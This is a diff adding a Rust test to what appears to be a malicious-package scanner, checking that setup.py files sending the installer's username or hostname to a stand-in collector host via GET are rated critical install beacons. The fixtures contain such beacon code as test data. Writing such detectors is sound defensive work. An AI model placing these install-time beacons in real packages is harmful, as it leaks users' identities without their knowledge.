@@ -1474,3 +1474,20 @@ fn code_encrypted_by_an_obfuscator_is_high() {
                  def pyarmor_runtime():\n    return None\npyarmor_runtime()\n";
     assert_eq!(severity_of("tools/release.py", build, "encrypted-code"), None);
 }
+
+/// A beacon sends who runs it as well with a GET as with a POST: an HTTP
+/// client's module functions (`httpx.get`) and a session's `.get` given an
+/// address written in the code are senders; a mapping's `.get` is handed
+/// keys and sends nothing. Written for the test.
+#[test]
+fn a_get_request_carrying_who_installs_is_a_beacon() {
+    let httpx = "import getpass, httpx\nfrom setuptools import setup\n\
+                 httpx.get('https://collector.example.net/b', params={'u': getpass.getuser()})\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", httpx, "install-beacon"), Some(Severity::Critical));
+    let session = "import socket, requests\nfrom setuptools import setup\ns = requests.Session()\n\
+                   s.get('https://collector.example.net/b', params={'h': socket.gethostname()})\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", session, "install-beacon"), Some(Severity::Critical));
+    let mapping = "import socket\nfrom setuptools import setup\nseen = {}\n\
+                   host = seen.get('build-host', socket.gethostname())\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", mapping, "install-beacon"), None);
+}
